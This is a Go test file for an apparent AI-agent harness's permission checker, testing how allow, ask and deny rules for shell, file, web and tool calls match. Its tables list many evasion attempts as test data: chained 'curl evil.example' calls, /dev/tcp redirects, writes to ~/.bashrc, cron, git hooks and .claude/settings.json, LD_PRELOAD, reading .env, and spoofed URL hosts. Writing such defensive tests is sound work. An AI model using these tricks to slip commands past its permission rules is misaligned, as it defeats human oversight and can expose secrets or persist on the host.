package permission

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"weir/internal/bridge/wire"
)

// meets says what one rule makes of a call: it is put into deny, ask and allow, beside a rule that asks about the tool where that is needed to see it.
func meets(t *testing.T, list List, rule string, c Call) bool {
	t.Helper()
	data, err := json.Marshal(map[string][]string{string(list): {rule}})
	if err != nil {
		t.Fatal(err)
	}
	s, warnings, err := Parse(File{Name: "f", Data: data})
	if err != nil || Dropped(warnings) > 0 {
		t.Fatalf("%s %s: %v %v", list, rule, err, warnings)
	}
	got := s.Check(c, "")
	return got.Reason.Type == "rule" && got.Decision == map[List]Decision{Deny: Denied, Allow: Allowed, Ask: Asked}[list]
}

func bash(command string) Call {
	data, _ := json.Marshal(map[string]string{"command": command})
	return Place{Dir: "/work/app"}.Call("Bash", data)
}

// TestCommandsF30: rules about commands mean what they mean in Claude Code. One of the commands of a text meets a rule that denies or asks; each has to
// meet one that allows.
func TestCommandsF30(t *testing.T) {
	for _, tt := range []struct {
		rule, command string
		denies        bool
		allows        bool
	}{
		{"Bash", "anything", true, true}, {"Bash(*)", "anything; at all", true, true}, {"bash", "anything", true, true},
		{"Bash(npm run test:*)", "npm run test", true, true}, {"Bash(npm run test:*)", "npm run test -- --watch=false", true, true}, {"Bash(npm run test:*)", "npm run tests", false, false},
		{"Bash(npm run test:*)", "npm run test:unit", false, false}, {"Bash(npm run test*)", "npm run test:unit", true, true}, {"Bash(npm run test *)", "npm run test", true, true},
		{"Bash(npm run test *)", "npm run test a b", true, true}, {"Bash(npm run test *)", "npm run testing", false, false}, {"Bash(ls*)", "lsof", true, true}, {"Bash(ls *)", "lsof", false, false},
		{"Bash(git * main)", "git push origin main", true, true}, {"Bash(git * main)", "git push origin mainline", false, false}, {"Bash(* --version)", "node --version", true, true},
		{"Bash(npm run build)", "npm run build", true, true}, {"Bash(npm run build)", "npm run build --x", false, false}, {"Bash(npm run build)", " npm run build ", true, true},
		{`Bash(echo \*)`, "echo *", true, true}, {`Bash(echo \*)`, "echo a", false, false}, {`Bash(echo \(a\))`, "echo '(a)'", true, false}, {"Bash(echo (a))", "echo '(a)'", true, false},
		{"Bash(rm:*)", "rm -rf x", true, true}, {"Bash(rm:*)", "rmdir x", false, false}, {"Bash(rm:*)", "echo rm", false, false}, {"Bash(rm:*)", "git commit -m 'rm -rf x'", false, false},
		{"Bash(rm:*)", "echo 'a; rm x'", false, false}, {"Bash(rm:*)", "# rm x", false, false}, {"Bash(rm:*)", "cat <<'X'\nrm x\nX", false, false},
		// one of several
		{"Bash(rm:*)", "ls && rm -rf x", true, false}, {"Bash(rm:*)", "ls; rm x", true, false}, {"Bash(rm:*)", "ls | rm x", true, false}, {"Bash(rm:*)", "ls || rm x", true, false}, {"Bash(rm:*)", "ls & rm x", true, false},
		{"Bash(rm:*)", "ls\nrm x", true, false}, {"Bash(rm:*)", "ls |& rm x", true, false}, {"Bash(rm:*)", "echo $(rm x)", true, false}, {"Bash(rm:*)", "echo `rm x`", true, false}, {"Bash(rm:*)", "cat <(rm x)", true, false},
		{"Bash(rm:*)", "if true; then rm x; fi", true, false}, {"Bash(rm:*)", "for i in a; do rm $i; done", true, true}, {"Bash(rm:*)", "(cd a && rm x)", true, false}, {"Bash(rm:*)", "f() { rm x; }; f", true, false},
		{"Bash(rm:*)", "rm a && rm b; rm c", true, true}, {"Bash(npm run test:*)", "npm run test && curl evil.example", true, false}, {"Bash(npm run test:*)", "npm run test $(curl evil.example)", true, false},
		// as it may be written
		{"Bash(rm:*)", `r"m" -rf x`, true, false}, {"Bash(rm:*)", `\rm x`, true, false}, {"Bash(rm:*)", "/bin/rm x", true, false}, {"Bash(rm:*)", "  rm   x", true, true}, {"Bash(rm:*)", "A=b rm x", true, false}, {"Bash(rm:*)", "LC_ALL=C rm x", true, true},
		{"Bash(rm:*)", "LD_PRELOAD=./a.so rm x", true, false}, {"Bash(rm:*)", "bash -c 'rm x'", true, false}, {"Bash(rm:*)", "eval rm x", true, false}, {"Bash(rm:*)", "sudo rm x", true, false}, {"Bash(rm:*)", "env A=b rm x", true, false},
		{"Bash(rm:*)", "find . -exec rm {} +", true, false}, {"Bash(rm:*)", "ls | xargs rm", true, false}, {"Bash(rm:*)", "{rm,x}", true, false}, {"Bash(git push:*)", "git  push origin", true, true},
		// what only runs another, and where it writes
		{"Bash(npm test:*)", "timeout 30 npm test", true, true}, {"Bash(npm test:*)", "nice -n 5 nohup npm test -- a", true, true}, {"Bash(npm test:*)", "time npm test", true, true}, {"Bash(timeout:*)", "timeout 30 npm test", true, false},
		{"Bash(npm test:*)", "npm test > out.txt 2>&1", true, true}, {"Bash(npm test:*)", "npm test &", true, true}, {"Bash(npm test:*)", "> x", false, false},
		{"Bash(grep:*)", "ls | xargs grep x", true, false}, {"Bash(grep:*)", "xargs grep x", true, true}, {"Bash(grep:*)", "xargs -n1 grep x", true, false}, {"Bash(rm:*)", "xargs sh -c 'rm x'", true, false},
		// what runs or removes things is allowed as a whole or not at all
		{"Bash(find *)", "find . -name x", true, true}, {"Bash(find *)", "find . -delete", true, false}, {"Bash(find *)", "find . -exec find {} +", true, false}, {"Bash(find . -delete)", "find . -delete", true, true},
		{"Bash(watch *)", "watch watch", true, false}, {"Bash(flock:*)", "flock l", true, false}, {"Bash(setsid:*)", "setsid setsid", true, false}, {"Bash(ionice -p 1)", "ionice -p 1", true, true},
		// what a shell is given on its input, and runs later
		{"Bash(rm:*)", "sh <<< 'rm x'", true, false}, {"Bash(rm:*)", "bash <<'E'\nls\nrm x\nE", true, false}, {"Bash(rm:*)", "/bin/sh -s <<E\nrm x\nE", true, false}, {"Bash(rm:*)", "trap 'rm x' EXIT", true, false}, {"Bash(rm:*)", "alias a='rm x'", true, false},
		// variables alone
		{"Bash(rm:*)", "A=", false, false}, {"Bash(rm:*)", "A=b; rm x", true, false}, {"Bash(rm:*)", "LC_ALL=C; rm x", true, true}, {"Bash(rm:*)", "A=$(rm x)", true, false}, {"Bash(rm:*)", "A=(a b); rm x", true, false},
		// what no shell reads
		{"Bash(rm:*)", "rm x; echo 'a", true, false}, {"Bash(rm:*)", "ls; )rm x", true, false},
	} {
		c := bash(tt.command)
		for _, list := range []List{Deny, Ask} {
			if got := meets(t, list, tt.rule, c); got != tt.denies {
				t.Errorf("%s: %s: %q: %v", list, tt.rule, tt.command, got)
			}
		}
		if got := meets(t, Allow, tt.rule, c); got != tt.allows {
			t.Errorf("allow: %s: %q: %v", tt.rule, tt.command, got)
		}
	}
	// Several rules allow together what each allows in part.
	s, _ := parse(t, "allow: ['Bash(npm run test:*)', 'Bash(git add:*)']\nask: [Bash]", "")
	for command, want := range map[string]Decision{"git add . && npm run test": Allowed, "git add . && git push": Asked, "git add .": Allowed} {
		if got := s.Check(bash(command), ""); got.Decision != want {
			t.Errorf("%q: %v", command, got)
		}
	}
	// The shells of other agents are Bash.
	for tool, input := range map[string]string{"exec_command": `{"cmd":"ls; rm -rf x"}`, "shell": `{"command":["bash","-lc","rm x"]}`, "local_shell": `{"command":["rm","x"]}`, "run_shell_command": `{"command":"rm x"}`, "Monitor": `{"command":"ls; rm x","description":"a"}`, "run_terminal_cmd": `{"command":"rm x","is_background":false}`, "write_stdin": `{"session_id":1,"chars":"rm x\n"}`} {
		if !meets(t, Deny, "Bash(rm:*)", Of(tool, json.RawMessage(input))) {
			t.Errorf("%s %s passes", tool, input)
		}
	}
	for _, tt := range []struct {
		rule, tool, input string
		want              bool
	}{
		{"PowerShell(Remove-Item:*)", "PowerShell", `{"command":"remove-item x"}`, true}, {"powershell_exec(Remove-Item *)", "powershell_exec", `{"script":"ls; REMOVE-ITEM x"}`, true}, {"cmd_exec(del:*)", "cmd_exec", `{"command":"dir & del x"}`, true},
		{"cmd_exec(del:*)", "cmd_exec", `{"command":"echo del"}`, false},
	} {
		if got := meets(t, Deny, tt.rule, Of(tt.tool, json.RawMessage(tt.input))); got != tt.want {
			t.Errorf("%s: %s: %v", tt.rule, tt.input, got)
		}
	}
	// What is too long to be held against the rules is not let past them.
	long := strings.Repeat("a;", 3000) + "rm x"
	if got := s.Check(bash(long), ""); got.Decision != Asked {
		t.Errorf("a long text is allowed: %v", got)
	}
	if s, _ := parse(t, "deny: ['Bash(rm:*)']", ""); s.Check(bash(long), "").Decision != Denied {
		t.Error("a long text passes")
	}
	if s, _ := parse(t, "ask: ['Bash(rm:*)']", ""); s.Check(bash(long), "").Decision != Asked {
		t.Error("a long text is not asked about")
	}
}

// TestRedirectionsF30: a rule about a command lets it write where commands may be let write, and no further: a rule about files, or the whole text, does.
func TestRedirectionsF30(t *testing.T) {
	dir := t.TempDir()
	if err := errors.Join(os.Mkdir(dir+"/app", 0o700), os.Symlink("/etc", dir+"/app/link"), os.Symlink(dir+"/app", dir+"/other")); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		command string
		want    bool
	}{
		{"npm test > out.txt", true}, {"npm test >> logs/out.txt 2>&1", true}, {"npm test > DIR/out.txt", true}, {"npm test > /dev/null", true}, {"npm test &> /dev/null", true}, {"npm test 2> /dev/null > out", true}, {"npm test > /tmp/out.txt", true},
		{"npm test >| a", true}, {"npm test <> a", true}, {"npm test 2>&1 >&-", true}, {"npm test < a", true}, {"npm test < /etc/hosts", true}, {"npm test >& out.txt", true}, {"npm test <<E\na\nE", true}, {"npm test <<< a", true}, {"npm test > 'my file'", true},
		{"npm test > a\nnpm test > b", true}, {"(npm test) > a", true}, {"{ npm test; } 2> a", true}, {"for i in 1 2; do npm test; done > a", true}, {"timeout 3 npm test > a", true}, {"npm test > /dev/stderr", true},
		{"npm test > ~/.bashrc", false}, {"npm test > $HOME/.bashrc", false}, {`npm test > "$HOME"/.bashrc`, false}, {"npm test >> /root/.profile", false}, {"npm test > /etc/cron.d/x", false}, {"npm test > ../x", false}, {"npm test > ../../../etc/x", false}, {"npm test > DIR/../x", false},
		{"npm test > link/x", false}, {"npm test > DIR/link/x", false}, {"npm test > $X", false}, {"npm test > $(echo x)", false}, {"npm test > `echo x`", false}, {"npm test > a*", false}, {"npm test > {a,b}", false}, {"npm test > >(npm test)", false}, {"npm test 2> ~/x", false},
		{"npm test &> ~/x", false}, {"npm test &>> ~/x", false}, {"npm test >& ~/x", false}, {"npm test >| ~/x", false}, {"npm test <> ~/x", false}, {"npm test {fd}> ~/x", false}, {"npm test 7> ~/x", false}, {"> ~/x npm test", false}, {"npm test > a > ~/x", false}, {"npm test > a\nnpm test > ~/x", false},
		{"npm test > .git/hooks/pre-commit", false}, {"npm test > .claude/settings.json", false}, {"npm test > .envrc", false}, {"npm test > /dev/tcp/192.0.2.1/80", false}, {"npm test < /dev/tcp/192.0.2.1/80", false}, {"npm test > /dev/udp/192.0.2.1/53", false}, {"npm test > /dev/sda", false}, {"npm test > /proc/self/mem", false},
		{"(npm test) > ~/x", false}, {"{ npm test; } > ~/x", false}, {"for i in 1 2; do npm test; done > ~/x", false}, {"if npm test; then npm test; fi > ~/x", false}, {"bash -c 'npm test > ~/x'", false}, {"timeout 3 npm test > ~/x", false}, {"npm test $(npm test > ~/x)", false}, {"npm test > ''", false},
		{"npm test | npm test > ~/x", false}, {"npm test > ~", false}, {"npm test > ~root/x", false}, {"npm test > //etc/x", false}, {"npm test > a/../../x", false}, {strings.Repeat("npm test > a;", 150) + "npm test > ~/x", false}, {"npm test " + strings.Repeat("> a ", 300) + "> ~/x", false},
	} {
		for name, dir := range map[string]string{"": dir + "/app", " by a link": dir + "/other"} {
			input, _ := json.Marshal(map[string]string{"command": strings.ReplaceAll(tt.command, "DIR", dir)})
			c := Place{Dir: dir, Resolve: wire.SeenBy("self", dir)}.Call("Bash", input)
			if got := meets(t, Allow, "Bash(npm test:*)", c); got != tt.want {
				t.Errorf("%q%s: %v", tt.command, name, got)
			}
		}
	}
	at := Place{Dir: "/work/app"}
	for _, tt := range []struct {
		rules, command string
		want           Decision
	}{
		{"'Bash(npm test:*)', 'Bash(cd:*)'", "cd sub && npm test", Allowed}, {"'Bash(npm test:*)', 'Bash(cd:*)'", "cd sub && npm test > a", Asked}, {"'Bash(npm test:*)', 'Bash(cd:*)'", "cd sub && npm test > /tmp/a", Allowed}, {"'Bash(npm test:*)', 'Bash(cd:*)'", "cd / && npm test > /work/app/a", Allowed},
		{"'Bash(npm test:*)', 'Edit(//srv/logs/**)'", "npm test > /srv/logs/a", Allowed}, {"'Bash(npm test:*)', 'Edit(//srv/logs/**)'", "npm test > /srv/logs/../a", Asked}, {"'Bash(npm test:*)', 'Read(//srv/logs/**)'", "npm test > /srv/logs/a", Asked},
		{"'Bash(npm test > /srv/a)'", "npm test > /srv/a", Allowed}, {"'Bash(npm test > /srv/a)'", "npm test > /srv/b", Asked}, {"'Bash(npm test*)'", "npm test > /srv/a", Asked}, {"'Bash(npm *)'", "npm test > /srv/a", Asked}, {"Bash", "npm test > /srv/a", Allowed}, {"'Bash(*)'", "npm test > /srv/a", Allowed},
	} {
		s, _ := parse(t, "ask: [Read]\nallow: ["+tt.rules+"]", "ask: []")
		s.own.add(Rule{Tool: "Bash"}, Ask)
		input, _ := json.Marshal(map[string]string{"command": tt.command})
		if got := s.Check(at.Call("Bash", input), ""); got.Decision != tt.want {
			t.Errorf("%s: %q: %v", tt.rules, tt.command, got)
		}
	}
	input := json.RawMessage(`{"command":"npm test > a"}`)
	if meets(t, Allow, "Bash(npm test:*)", Place{}.Call("Bash", input)) {
		t.Error("allowed to write below a folder that nobody knows")
	}
	if !meets(t, Deny, "Edit(//etc/**)", bash("echo x >& /etc/a")) {
		t.Error(">& writes past a rule about files")
	}
	for command, want := range map[string]bool{"dir C:\\a": true, "dir > C:\\a": false, "dir>>a": false} {
		input, _ := json.Marshal(map[string]string{"command": command})
		if got := meets(t, Allow, "cmd_exec(dir:*)", at.Call("cmd_exec", input)); got != want {
			t.Errorf("%q: %v", command, got)
		}
	}
}

// TestPathsF30: rules about files are patterns as in a .gitignore, and mean every tool that reads or changes files, by every name of a file.
func TestPathsF30(t *testing.T) {
	at := Place{Dir: "/work/app"}
	for _, tt := range []struct {
		rule, path string
		denies     bool
		allows     bool
	}{
		{"./.env", ".env", true, true}, {"./.env", "/work/app/.env", true, true}, {"./.env", "/work/app/sub/.env", true, true}, {".env", "sub/.env", true, true}, {"./.env", "/work/other/.env", false, false}, {"./.env", "/work/app/.env.local", false, false},
		{"./.env", "/work/app/x/../.env", true, true}, {"./.env", "/work/app//./.env", true, true}, {"./.env", "/work/app/.env/", true, true}, {"./.env", "sub/../../app/.env", true, true}, {"./.env", ".ENV", false, false},
		{"./.env", "/work/app/../.env", false, false}, {"**/.env", "/work/app/a/b/.env", true, true}, {"**/.env", "/work/app/.env", true, true}, {"*.env", "a/prod.env", true, true}, {"*.env", "a/prod.env/x", true, true},
		{"src/**", "src/a/b.go", true, true}, {"src/**", "/work/app/src", true, true}, {"src/*.go", "src/a.go", true, true}, {"src/*.go", "src/a/b.go", false, false}, {"src/*.go", "lib/src/a.go", false, false}, {"src/**/*.go", "src/a.go", true, true},
		{"src/**/*.go", "src/a/b/c.go", true, true}, {"src/**/*.go", "src/a/b/c.ts", false, false}, {"src/", "src/a", true, true}, {"./secrets/**", "secrets/a/b", true, true}, {"../shared/**", "/work/shared/a", true, true}, {"../shared/**", "/work/app/shared/a", false, false},
		{"//etc/**", "/etc/passwd", true, true}, {"//etc/**", "/etc/a/b", true, true}, {"//etc/**", "/work/app/etc/a", false, false}, {"//etc/*", "/etc/a", true, true}, {"//etc/*", "/etc", false, false}, {"//**", "/any/thing", true, true},
		{"/src/**", "/work/app/src/a", true, true}, {"/src/**", "/src/a", true, true}, {"/src/**", "/work/src/a", true, false}, {"/src/**", "/other/src/a", false, false}, {"/src/**", "/work/app/lib/src/a", false, false},
		{"/srv/secrets/**", "/srv/x/../secrets/a", true, true}, {"/srv/secrets/**", "/srv//secrets/a", true, true}, {"/srv/secrets/**", "/srv/./secrets/a/", true, true}, {"/srv/secrets/**", "/srv/secrets", true, true}, {"/srv/secrets/**", "/srv/secrets2/a", false, false},
		{"/srv/secrets/**", "../../srv/secrets/a", true, true}, {"/srv/secrets", "/srv/secrets/a/b", true, true}, {"//srv//x/../secrets/**", "/srv/secrets/a", true, true}, {"/srv/*/keys/**", "/srv/a/keys/b", true, true}, {"/srv/*/keys/**", "/srv/a/b/keys/c", false, false},
		{"**", "a", true, true}, {"./**", "a/b", true, true}, {"**", "/other/a", false, false}, {"[a-c].txt", "b.txt", true, true}, {"[!a-c].txt", "b.txt", false, false}, {"a?.txt", "ab.txt", true, true}, {`\!a`, "!a", true, true}, {`a\*`, "a*", true, true}, {`a\*`, "ab", false, false},
		{"a/**/b/**/c", "a/x/b/y/z/c", true, true}, {"a/**/b/**/c", "a/b/c", true, true}, {"a/**/b/**/c", "a/x/c", false, false}, {"**/a/**", "x/a/y", true, true}, {"/(app)/x", "/work/app/(app)/x", true, true}, {`/\(app\)/x`, "/work/app/(app)/x", true, true},
	} {
		for _, tool := range []struct{ rule, tool, input string }{
			{"Read", "Read", `{"file_path":PATH}`}, {"Read", "NotebookRead", `{"notebook_path":PATH}`}, {"Read", "Grep", `{"pattern":"x","path":PATH}`}, {"Read", "Glob", `{"pattern":"*","path":PATH}`}, {"Read", "LS", `{"path":PATH}`}, {"Grep", "Read", `{"file_path":PATH}`},
			{"Read", "fs_read", `{"path":PATH}`}, {"Read", "view_image", `{"path":PATH}`}, {"Read", "read_file", `{"file_path":PATH}`}, {"Read", "list_dir", `{"dir_path":PATH}`},
			{"Edit", "Edit", `{"file_path":PATH}`}, {"Edit", "Write", `{"file_path":PATH,"content":"x"}`}, {"Edit", "MultiEdit", `{"file_path":PATH}`}, {"Edit", "NotebookEdit", `{"notebook_path":PATH}`}, {"Write", "Edit", `{"file_path":PATH}`}, {"MultiEdit", "Write", `{"file_path":PATH}`},
			{"Write", "fs_delete", `{"path":PATH}`}, {"Edit", "write_file", `{"path":PATH}`}, {"Edit", "apply_patch", `{"input":PATCH}`}, {"NotebookEdit", "apply_patch", `{"input":PATCH}`},
		} {
			if tool.tool == "apply_patch" && strings.HasSuffix(tt.path, "/") {
				continue
			}
			name, _ := json.Marshal(tt.path)
			patch, _ := json.Marshal("*** Begin Patch\n*** Update File: " + tt.path + "\n@@\n-a\n+b\n*** End Patch")
			c := func() Call {
				return at.Call(tool.tool, json.RawMessage(strings.NewReplacer("PATH", string(name), "PATCH", string(patch)).Replace(strings.Replace(tool.input, "PATCH", string(patch), 1))))
			}
			rule := tool.rule + "(" + tt.rule + ")"
			for list, want := range map[List]bool{Deny: tt.denies, Ask: tt.denies, Allow: tt.allows} {
				if got := meets(t, list, rule, c()); got != want {
					t.Errorf("%s: %s: %s %q: %v", list, rule, tool.tool, tt.path, got)
				}
			}
		}
	}
	for _, tt := range []struct {
		rule, tool, input string
		want              bool
	}{
		{"Read(//etc/**)", "Edit", `{"file_path":"/etc/a"}`, true}, {"Read(//etc/**)", "MultiEdit", `{"file_path":"/etc/a"}`, true}, {"Read(//etc/**)", "Write", `{"file_path":"/etc/a"}`, false}, {"Edit(//etc/**)", "Read", `{"file_path":"/etc/a"}`, false}, {"Write(/etc/*)", "Edit", `{"file_path":"/etc/a"}`, true},
		{"Read(./.env)", "Grep", `{"pattern":"x","glob":".env"}`, true}, {"Read(./.env)", "Grep", `{"pattern":"x"}`, false}, {"Read(secrets/**)", "Glob", `{"pattern":"secrets/*.txt"}`, true}, {"Read(//etc/**)", "Glob", `{"pattern":"/etc/**"}`, true},
		{"Read(//etc/**)", "Glob", `{"pattern":"../../etc/*"}`, true}, {"Read(secrets/**)", "Glob", `{"pattern":"*.txt","path":"secrets"}`, true}, {"Read(//etc/**)", "mcp__fs__read", `{"path":"/etc/a"}`, false}, {"Read(//etc/**)", "Read", `{"path":"/etc/a"}`, true},
		{"Edit", "Write", `{"file_path":"a"}`, true}, {"Edit", "apply_patch", `{"input":"x"}`, true}, {"Read", "Grep", `{"pattern":"x"}`, true}, {"Write", "Edit", `{"file_path":"a"}`, false}, {"Edit(*)", "NotebookEdit", `{"notebook_path":"a"}`, true}, {"Read", "Edit", `{"file_path":"a"}`, false},
	} {
		if got := meets(t, Deny, tt.rule, at.Call(tt.tool, json.RawMessage(tt.input))); got != tt.want {
			t.Errorf("%s: %s %s: %v", tt.rule, tt.tool, tt.input, got)
		}
	}
	// Files that commands are given.
	for _, tt := range []struct {
		rule, command string
		want          bool
	}{
		{"Read(./.env)", "cat .env", true}, {"Read(./.env)", "cd x; head -n 3 ./.env | wc -l", true}, {"Read(./.env)", "grep -n KEY sub/.env", true}, {"Read(./.env)", "grep .env README.md", false}, {"Read(./.env)", "sed s/a/b/ .env", true}, {"Read(./.env)", "sort < .env", true},
		{"Read(./.env)", "echo .env >> .gitignore", false}, {"Read(./.env)", "git add .env", false}, {"Read(./.env)", "cp .env /tmp/x", true}, {"Read(./.env)", "bash -c 'cat .env'", true}, {"Read(./.env)", "sudo cat .env", true}, {"Read(//etc/**)", "cat ../../etc/hosts", true},
		{"Edit(//etc/**)", "echo x > /etc/a", true}, {"Edit(//etc/**)", "echo x | tee -a /etc/a", true}, {"Write(/etc/*)", "cp a /etc/a", true}, {"Edit(//etc/**)", "cat /etc/a", false}, {"Edit(//etc/**)", "sed -i s/a/b/ /etc/a", true}, {"Edit(//etc/**)", "sed s/a/b/ /etc/a", false},
		{"Edit(/src/**)", "rm -rf src/a", true}, {"Edit(/src/**)", "touch a", false}, {"Edit(./a)", "echo x 2>&1", false}, {"Edit(./a)", "echo x &> a", true},
	} {
		input, _ := json.Marshal(map[string]string{"command": tt.command})
		for _, list := range []List{Deny, Ask} {
			if got := meets(t, list, tt.rule, at.Call("Bash", input)); got != tt.want {
				t.Errorf("%s: %s: %q: %v", list, tt.rule, tt.command, got)
			}
		}
		if meets(t, Allow, tt.rule, at.Call("Bash", input)) {
			t.Errorf("%s allows %q", tt.rule, tt.command)
		}
	}
	if meets(t, Allow, "Read(./a)", Place{}.Call("Read", json.RawMessage(`{"file_path":"a"}`))) {
		t.Error("allowed below a folder that nobody knows")
	}
	if !meets(t, Deny, "Read(./a)", Place{}.Call("Read", json.RawMessage(`{"file_path":"x/a"}`))) {
		t.Error("not denied below a folder that nobody knows")
	}
}

// TestLinksF30: what denies and asks counts for a file under each of its names; what allows needs all of them.
func TestLinksF30(t *testing.T) {
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"real/work", "secret", "home/docs"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, to := range map[string]string{"work": "real/work", "real/work/link": "../../secret"} {
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", dir+"/home")
	at := Place{Dir: dir + "/work", Resolve: wire.SeenBy("self", dir+"/work")}
	for _, tt := range []struct {
		rule, path     string
		denies, allows bool
	}{
		{"Read(/" + dir + "/secret/**)", "link/a", true, false}, {"Read(./link/**)", "link/a", true, false}, {"Read(./.env)", dir + "/real/work/.env", true, true}, {"Read(./.env)", ".env", true, true}, {"Read(/" + dir + "/real/**)", "a", true, false},
		{"Read(~/docs/**)", "~/docs/a", true, true}, {"Read(~/docs/**)", dir + "/home/docs/a", true, true}, {"Read(~/docs/**)", "$HOME/docs/a", true, false}, {"Read(~/docs/**)", dir + "/docs/a", false, false}, {"Read(/" + dir + "/home/**)", "~/docs/a", true, false},
	} {
		input, _ := json.Marshal(map[string]string{"file_path": tt.path})
		if got := meets(t, Deny, tt.rule, at.Call("Read", input)); got != tt.denies {
			t.Errorf("deny %s: %s: %v", tt.rule, tt.path, got)
		}
		if got := meets(t, Allow, tt.rule, at.Call("Read", input)); got != tt.allows {
			t.Errorf("allow %s: %s: %v", tt.rule, tt.path, got)
		}
	}
}

// TestOthersF30: hosts, servers of tools, sub-agents, skills.
func TestOthersF30(t *testing.T) {
	for _, tt := range []struct {
		rule, tool, input string
		want              bool
	}{
		{"WebFetch", "WebFetch", `{"url":"https://example.com/"}`, true}, {"WebFetch(*)", "WebFetch", `{"url":"https://example.com/"}`, true}, {"WebFetch(domain:*)", "WebFetch", `{"url":"https://example.com/"}`, true},
		{"WebFetch(domain:example.com)", "WebFetch", `{"url":"https://example.com/a?b"}`, true}, {"WebFetch(domain:example.com)", "WebFetch", `{"url":"http://EXAMPLE.com:8080/"}`, true}, {"WebFetch(domain:Example.COM.)", "WebFetch", `{"url":"https://example.com./"}`, true},
		{"WebFetch(domain:example.com)", "WebFetch", `{"url":"https://www.example.com/"}`, false}, {"WebFetch(domain:example.com)", "WebFetch", `{"url":"https://example.com.evil.org/"}`, false}, {"WebFetch(domain:example.com)", "WebFetch", `{"url":"https://notexample.com/"}`, false},
		{"WebFetch(domain:*.example.com)", "WebFetch", `{"url":"https://a.b.example.com/"}`, true}, {"WebFetch(domain:*.example.com)", "WebFetch", `{"url":"https://example.com/"}`, false}, {"WebFetch(domain:*.example.com)", "WebFetch", `{"url":"https://example.com@evil.org/"}`, false},
		{"WebFetch(domain:api-*.example.com)", "WebFetch", `{"url":"https://api-1.example.com/"}`, true}, {"WebFetch(domain:api-*.example.com)", "WebFetch", `{"url":"https://api-1.x.example.com/"}`, false}, {"WebFetch(domain:example.*)", "WebFetch", `{"url":"https://example.co.uk/"}`, false},
		{"WebFetch(domain:example.com)", "WebFetch", `{"url":"https://user:pw@example.com:8443/"}`, true}, {"WebFetch(domain:example.com)", "WebFetch", `{"url":" \thttps:\\\\exa\nmple.com\\a"}`, true}, {"WebFetch(domain:example.com)", "WebFetch", `{"url":"HTTPS:example.com"}`, true},
		{"WebFetch(domain:example.com)", "WebFetch", `{"url":"https://example.com\\@evil.org/"}`, true}, {"WebFetch(domain:example.com)", "WebFetch", `{"url":"https://evil.org\\@example.com/"}`, false}, {"WebFetch(domain:example.com)", "WebFetch", `{"url":"https://evil.org#@example.com/"}`, false},
		{"WebFetch(domain:example.com)", "WebFetch", `{"url":"https://example.com/%zz"}`, true}, {"WebFetch(domain:127.0.0.1)", "WebFetch", `{"url":"http://127.0.0.1:80/"}`, true},
		{"WebFetch(domain:example.com)", "web_fetch", `{"url":"https://example.com/"}`, true}, {"WebSearch(claude ai)", "WebSearch", `{"query":"claude ai"}`, true}, {"WebSearch(claude ai)", "WebSearch", `{"query":"claude"}`, false},
		{"mcp__github", "mcp__github__get_issue", `{}`, true}, {"mcp__github__*", "mcp__github__get_issue", `{}`, true}, {"mcp__github__get_*", "mcp__github__get_issue", `{}`, true}, {"mcp__github__get_*", "mcp__github__set_issue", `{}`, false},
		{"mcp__github__get_issue", "mcp__github__get_issue", `{}`, true}, {"mcp__github__get_issue", "mcp__github__get_issues", `{}`, false}, {"mcp__git", "mcp__github__get_issue", `{}`, false}, {"mcp__weir", "mcp__weir__VaultHttpFetch", vaultInput, true},
		{"VaultHttpFetch", "mcp__weir__VaultHttpFetch", vaultInput, true}, {"mcp__weir__VaultHttpFetch", "weir.VaultHttpFetch", vaultInput, true}, {"mcp__weir__Vault*", "mcp__weir__VaultHttpFetch", vaultInput, true},
		{"Agent(Explore)", "Agent", `{"subagent_type":"Explore"}`, true}, {"Agent(Explore)", "Task", `{"subagent_type":"Explore"}`, true}, {"Task(Explore)", "Agent", `{"subagent_type":"Explore"}`, true}, {"Task(Explore)", "Task", `{"subagent_type":"Plan"}`, false},
		{"Agent(general-purpose)", "Task", `{"prompt":"x"}`, true}, {"Agent", "Task", `{"subagent_type":"Plan"}`, true}, {"Agent(my-plugin:reviewer)", "Agent", `{"subagent_type":"my-plugin:reviewer"}`, true},
		{"Skill(deploy)", "Skill", `{"skill":"deploy"}`, true}, {"Skill(deploy)", "Skill", `{"skill":"deploy-all"}`, false}, {"Skill(deploy:*)", "Skill", `{"skill":"deploy-all"}`, true}, {"Skill(deploy *)", "Skill", `{"skill":"deploy"}`, true}, {"SlashCommand(/deploy:*)", "SlashCommand", `{"command":"/deploy now"}`, true},
		{"WebFetch(prompt:*secret*)", "WebFetch", `{"url":"https://a.example/","prompt":"the secret of it"}`, true}, {"Agent(model:opus)", "Task", `{"subagent_type":"Plan","model":"opus"}`, true}, {"Agent(model:opus)", "Agent", `{"model":"haiku"}`, false},
		{"Agent( model : * )", "Agent", `{"model":"haiku"}`, true}, {"Agent(model:*)", "Agent", `{"prompt":"x"}`, false}, {"Agent(isolation:worktree)", "Agent", `{"isolation":{"a":"worktree"}}`, false}, {"Bash(run_in_background:true)", "Bash", `{"command":"ls","run_in_background":true}`, true},
		{"Bash(run_in_background:true)", "Bash", `{"command":"ls"}`, false}, {"Read(limit:5)", "Read", `{"file_path":"a","limit":5}`, true}, {"mcp__a__b(x:y*)", "mcp__a__b", `{"x":"yz"}`, true}, {"TaskStop(task_id:b1)", "KillShell", `{"task_id":"b1"}`, true},
		{"KillShell", "TaskStop", `{}`, true}, {"BashOutput", "BashOutput", `{}`, true}, {"TodoWrite", "TodoWrite", `{}`, true},
	} {
		for _, list := range []List{Deny, Ask, Allow} {
			if r, _ := ParseRule(tt.rule, Deny); list == Allow && (strings.Contains(tt.rule, "Vault") || tt.rule == "mcp__weir" || r.isParam()) {
				continue
			}
			if got := meets(t, list, tt.rule, Of(tt.tool, json.RawMessage(tt.input))); got != tt.want {
				t.Errorf("%s: %s: %s %s: %v", list, tt.rule, tt.tool, tt.input, got)
			}
		}
	}
	// Whose host cannot be told may be any.
	for _, address := range []string{"https://%65xample.com/", "https://ｅxample.com/", "https://example。com/", "https://ex\u00adample.com/", "http://2130706433/", "http://0x7f.1/", "example.com", "https://", "view-source:https://example.com/", "https://a b.example/"} {
